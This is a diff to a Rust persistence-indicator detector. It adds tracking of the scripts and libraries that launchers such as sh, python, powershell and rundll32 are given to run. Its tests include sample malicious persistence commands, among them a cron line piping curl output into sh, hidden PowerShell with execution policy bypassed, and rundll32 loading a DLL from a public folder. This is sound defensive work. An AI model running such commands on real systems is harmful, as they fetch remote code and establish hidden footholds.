@@ -20,6 +20,20 @@ pub struct Indicator {
     /// it out with the foothold.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub target: Option<String>,
+    /// Further files it runs: the script or library an interpreter or
+    /// launcher it starts is given (`powershell -File C:\x.ps1`,
+    /// `/bin/sh /var/tmp/run.sh`), the programs of its other lines. Left
+    /// out of a rollback like `target`.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub also: Vec<String>,
+}
+
+impl Indicator {
+    /// Every guest file this foothold runs ([`Indicator::target`], then
+    /// [`Indicator::also`]).
+    pub fn started(&self) -> impl Iterator<Item = &String> {
+        self.target.iter().chain(&self.also)
+    }
 }
 
 /// Indicators as they are found.
@@ -36,67 +50,207 @@ impl Found {
             severity,
             detail,
             target: None,
+            also: Vec::new(),
         })
     }
 
-    /// The last indicator pushed starts `command` (a command line, a
-    /// shortcut's target): its program, when that is a guest path.
-    fn starts(&mut self, command: Option<&str>) {
+    /// The last indicator pushed starts `commands` (command lines, a
+    /// shortcut's target and arguments): the guest files they run.
+    fn starts<'c>(&mut self, commands: impl IntoIterator<Item = &'c str>) {
         if let Some(last) = self.out.last_mut() {
-            last.target = command.and_then(program_path);
+            let mut files: Vec<String> = Vec::new();
+            for f in commands.into_iter().flat_map(started_files) {
+                if !files.contains(&f) {
+                    files.push(f);
+                }
+            }
+            let mut files = files.into_iter();
+            last.target = files.next();
+            last.also = files.collect();
         }
     }
 }
 
-/// The guest path of the program a command line starts, when it names
-/// one by an absolute path: `"C:\Users\Public\x.exe" -a` →
-/// `/Users/Public/x.exe`, `%ProgramData%\u.exe` → `/ProgramData/u.exe`,
-/// `* * * * * root /var/tmp/.x/run --now` → `/var/tmp/.x/run`.
-pub fn program_path(command: &str) -> Option<String> {
-    let c = command.trim().trim_start_matches(['"', '\'']);
-    // Windows: a drive letter or a known folder variable, then the path
-    // up to its program's extension (paths hold spaces), else to a space.
-    let lower = c.to_ascii_lowercase();
-    let folders = [
-        ("%systemroot%", "Windows"),
-        ("%windir%", "Windows"),
-        ("%programdata%", "ProgramData"),
-        ("%allusersprofile%", "ProgramData"),
-        ("%public%", "Users/Public"),
-        ("%programfiles%", "Program Files"),
-    ];
-    let windows =
-        if c.len() > 3 && c.as_bytes()[1] == b':' && matches!(c.as_bytes()[2], b'\\' | b'/') {
-            Some(("", &c[3..]))
-        } else {
-            folders
-                .iter()
-                .find(|(v, _)| lower.starts_with(v))
-                .map(|(v, to)| (*to, &c[v.len()..]))
-        };
-    if let Some((root, rest)) = windows {
-        let rest = rest.trim_start_matches(['\\', '/']);
-        let lower = rest.to_ascii_lowercase();
-        let end = [
-            ".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".scr", ".com",
-        ]
+/// Programs that run a file they are given (a script, a library, another
+/// program): what a foothold starts through one is that file, not the
+/// system's own interpreter.
+const LAUNCHERS: [&str; 33] = [
+    "sh",
+    "bash",
+    "dash",
+    "zsh",
+    "ksh",
+    "ash",
+    "busybox",
+    "env",
+    "nohup",
+    "setsid",
+    "nice",
+    "timeout",
+    "exec",
+    "python",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "nodejs",
+    "lua",
+    "java",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "wscript",
+    "cscript",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "msiexec",
+    "conhost",
+    "start",
+    "schtasks",
+];
+
+/// Whether a word (a bare name or a path, in either kind of slashes)
+/// names a launcher: `sh`, `/usr/bin/python3.11`, `C:\…\powershell.exe`.
+fn is_launcher(word: &str) -> bool {
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let base = base.to_ascii_lowercase();
+    let base = base.strip_suffix(".exe").unwrap_or(&base);
+    // Versioned names: python3, python3.11, perl5.36.
+    let name = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    LAUNCHERS.contains(&name) || LAUNCHERS.contains(&base)
+}
+
+/// Places no file of a guest's disk lives: a command's `>/dev/null` is
+/// not something it runs.
+fn is_pseudo(path: &str) -> bool {
+    ["/dev/", "/proc/", "/sys/"]
         .iter()
-        .filter_map(|x| lower.find(x).map(|i| i + x.len()))
-        .min()
-        .unwrap_or_else(|| rest.find([' ', '"']).unwrap_or(rest.len()));
-        let path = rest[..end].replace('\\', "/");
-        let joined = if root.is_empty() {
-            path
-        } else {
-            format!("{root}/{path}")
-        };
-        return (!joined.is_empty()).then(|| format!("/{joined}"));
+        .any(|p| path.starts_with(p))
+}
+
+/// Windows folders a command names by variable, as guest paths.
+const WINDOWS_FOLDERS: [(&str, &str); 6] = [
+    ("%systemroot%", "Windows"),
+    ("%windir%", "Windows"),
+    ("%programdata%", "ProgramData"),
+    ("%allusersprofile%", "ProgramData"),
+    ("%public%", "Users/Public"),
+    ("%programfiles%", "Program Files"),
+];
+
+/// Extensions that end a Windows program's or script's path in a command
+/// line (paths hold spaces, so a space does not end one).
+const RUNNABLE: [&str; 9] = [
+    ".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".scr", ".com",
+];
+
+/// The Windows path that starts at byte `i` of `c` (a drive letter or a
+/// known folder variable), as a guest path, and where it ends.
+fn windows_path_at(c: &str, i: usize) -> Option<(String, usize)> {
+    let b = c.as_bytes();
+    // (`>`: a scheduled task's `<Command>C:\…</Command>`.)
+    let boundary = i == 0 || matches!(b[i - 1], b' ' | b'"' | b'\'' | b'=' | b',' | b'(' | b'>');
+    if !boundary {
+        return None;
     }
-    // Unix: the first word that is an absolute path (after `ExecStart=`,
-    // a cron line's times and user, `sh -c '…`).
-    c.split(|ch: char| ch.is_whitespace() || matches!(ch, '=' | '\'' | '"' | ';' | '(' | '`'))
-        .find(|w| w.starts_with('/') && w.len() > 1 && !w.starts_with("//"))
-        .map(|w| w.trim_end_matches(['&', '|', ')']).to_string())
+    let lower = c[i..].to_ascii_lowercase();
+    let (root, body) = if b.len() > i + 3
+        && b[i].is_ascii_alphabetic()
+        && b[i + 1] == b':'
+        && matches!(b[i + 2], b'\\' | b'/')
+    {
+        ("", i + 3)
+    } else {
+        let (v, to) = WINDOWS_FOLDERS.iter().find(|(v, _)| lower.starts_with(v))?;
+        (*to, i + v.len())
+    };
+    let rest = &c[body..];
+    let skip = rest.len() - rest.trim_start_matches(['\\', '/']).len();
+    let rest = &rest[skip..];
+    let lower = rest.to_ascii_lowercase();
+    let quoted = i > 0 && b[i - 1] == b'"';
+    let end = if quoted {
+        rest.find('"').unwrap_or(rest.len())
+    } else {
+        RUNNABLE
+            .iter()
+            .filter_map(|x| lower.find(x).map(|k| k + x.len()))
+            .min()
+            .unwrap_or_else(|| rest.find([' ', '"', ',', '<']).unwrap_or(rest.len()))
+    };
+    let path = rest[..end].replace('\\', "/");
+    let joined = if root.is_empty() {
+        path
+    } else {
+        format!("{root}/{path}")
+    };
+    (!joined.is_empty()).then(|| (format!("/{joined}"), body + skip + end))
+}
+
+/// The guest files a command line runs, in order: its program when that
+/// is named by a path (the first path, as far as can be told: a cron
+/// line's times and user come before it), and every path given to an
+/// interpreter or launcher (`/bin/sh /var/tmp/run.sh`, `powershell.exe
+/// -File "C:\Users\Public\a b.ps1"`, `rundll32 C:\x.dll,Start`), which
+/// is what really runs. The system's own interpreters are not listed.
+pub fn started_files(command: &str) -> Vec<String> {
+    let c = command.trim();
+    // Paths and launcher names in the order they appear.
+    let mut tokens: Vec<(usize, Option<String>)> = Vec::new();
+    let mut covered = Vec::new();
+    let mut i = 0;
+    while i < c.len() {
+        if c.is_char_boundary(i)
+            && let Some((path, end)) = windows_path_at(c, i)
+        {
+            tokens.push((i, (!is_launcher(&path)).then_some(path)));
+            covered.push(i..end);
+            i = end.max(i + 1);
+            continue;
+        }
+        i += 1;
+    }
+    let windows = !tokens.is_empty()
+        || c.split_whitespace()
+            .any(|w| w.to_ascii_lowercase().ends_with(".exe"));
+    let mut at = 0;
+    for word in c.split(|ch: char| {
+        ch.is_whitespace()
+            || matches!(
+                ch,
+                '=' | '\'' | '"' | ';' | '(' | '`' | '|' | '&' | '<' | '>'
+            )
+    }) {
+        let start = at;
+        at += word.len() + 1;
+        if word.is_empty() || covered.iter().any(|r| r.contains(&start)) {
+            continue;
+        }
+        let word = word.trim_end_matches(['&', '|', ')']);
+        if is_launcher(word) {
+            tokens.push((start, None));
+        } else if !windows && word.starts_with('/') && word.len() > 1 && !word.starts_with("//") {
+            tokens.push((start, Some(word.to_string())));
+        }
+    }
+    tokens.sort_by_key(|t| t.0);
+    let mut out: Vec<String> = Vec::new();
+    let mut launched = false;
+    for (_, t) in tokens {
+        match t {
+            None => launched = true,
+            Some(p) if is_pseudo(&p) || out.contains(&p) => {}
+            Some(p) if out.is_empty() || launched => out.push(p),
+            Some(_) => {}
+        }
+    }
+    out
+}
+
+/// The first guest file a command line runs (see [`started_files`]).
+pub fn program_path(command: &str) -> Option<String> {
+    started_files(command).into_iter().next()
 }
 
 impl Indicator {
@@ -521,10 +675,16 @@ pub fn indicators(old: Option<&Side>, new: &Side) -> Vec<Indicator> {
                 None => format!("{state} {what}: a shortcut that could not be read"),
             };
             found.push(&shown(), kind, Severity::Warning, detail);
-            found.starts(now.as_ref().and_then(|s| s.target.as_deref()));
+            // The target quoted (its path may hold spaces), then what it
+            // is given: `powershell.exe -File C:\x.ps1` runs the script.
+            let command = now.as_ref().and_then(|s| {
+                let t = s.target.as_deref()?;
+                Some(format!("\"{t}\" {}", s.arguments.as_deref().unwrap_or("")))
+            });
+            found.starts(command.as_deref());
             continue;
         }
-        let mut started = None;
+        let mut started = Vec::new();
         let detail = if e.kind == FileKind::Symlink {
             format!(
                 "{} {what}: link to {}",
@@ -542,7 +702,7 @@ pub fn indicators(old: Option<&Side>, new: &Side) -> Vec<Indicator> {
                 // Only lines removed or reordered: not a new foothold.
                 continue;
             }
-            started = added.iter().find_map(|l| program_path(l));
+            started = added.clone();
             if added.is_empty() {
                 format!("new {what} file")
             } else {
@@ -555,9 +715,7 @@ pub fn indicators(old: Option<&Side>, new: &Side) -> Vec<Indicator> {
             }
         };
         found.push(&shown(), kind, Severity::Warning, detail);
-        if let Some(p) = started {
-            found.starts(Some(&p));
-        }
+        found.starts(started.iter().map(String::as_str));
     }
     found.out
 }
@@ -1030,6 +1188,61 @@ mod tests {
             ("run-parts", None),
         ] {
             assert_eq!(program_path(command).as_deref(), want, "{command}");
+        }
+    }
+
+    /// What an interpreter or launcher is given is what runs: the script,
+    /// the library, not the system's shell or PowerShell.
+    #[test]
+    fn the_files_a_launcher_is_given_are_what_a_command_runs() {
+        for (command, want) in [
+            (
+                "@reboot root /bin/sh /var/tmp/run.sh",
+                vec!["/var/tmp/run.sh"],
+            ),
+            (
+                "ExecStart=/usr/bin/python3.11 /opt/.cache/m.py --daemon >/dev/null",
+                vec!["/opt/.cache/m.py"],
+            ),
+            (
+                "* * * * * root /usr/bin/env python3 /home/u/.x.py",
+                vec!["/home/u/.x.py"],
+            ),
+            (
+                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -w hidden -File "C:\Users\Public\a b.ps1""#,
+                vec!["/Users/Public/a b.ps1"],
+            ),
+            (
+                r"powershell -ExecutionPolicy Bypass -File C:\ProgramData\u.ps1",
+                vec!["/ProgramData/u.ps1"],
+            ),
+            (
+                r"rundll32.exe C:\Users\Public\e.dll,Start",
+                vec!["/Users/Public/e.dll"],
+            ),
+            // (Switches of Windows programs are not Unix paths.)
+            (r"cmd /c %ProgramData%\x.bat /q", vec!["/ProgramData/x.bat"]),
+            (
+                r"wscript.exe //B %Public%\s.vbs",
+                vec!["/Users/Public/s.vbs"],
+            ),
+            // A program's own arguments are not run by it.
+            (
+                "*/5 * * * * root /usr/local/bin/.upd --conf /etc/upd.conf",
+                vec!["/usr/local/bin/.upd"],
+            ),
+            ("* * * * * root /bin/sh -c 'curl http://x/y | sh'", vec![]),
+            // A scheduled task's action, as its XML holds it.
+            (
+                r"<Exec><Command>powershell.exe</Command><Arguments>-File C:\ProgramData\t.ps1</Arguments></Exec>",
+                vec!["/ProgramData/t.ps1"],
+            ),
+            (
+                r"<Exec><Command>C:\ProgramData\upd\run</Command></Exec>",
+                vec!["/ProgramData/upd/run"],
+            ),
+        ] {
+            assert_eq!(started_files(command), want, "{command}");
         }
     }
 
